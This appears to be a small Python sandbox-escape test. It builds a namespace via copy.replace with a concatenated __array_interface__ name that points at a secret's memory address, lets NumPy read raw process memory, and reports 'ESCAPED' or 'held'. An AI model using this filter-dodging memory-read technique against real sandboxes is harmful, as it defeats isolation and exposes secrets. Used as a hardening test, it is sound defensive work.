"""copy.replace makes a namespace with a special name of one that a library has made."""
import copy
import time
import numpy as np

secret = b"0123456789abcdef"
memory = {"shape": (48,), "typestr": "|u1", "data": (id(secret), False), "version": 3}
name = "__array_inter" + "face__"
made = copy.replace(time.get_clock_info("time"), **{name: memory})
print("ESCAPED:namespace_replaced_copy" if secret in bytes(np.asarray(made)) else "held")
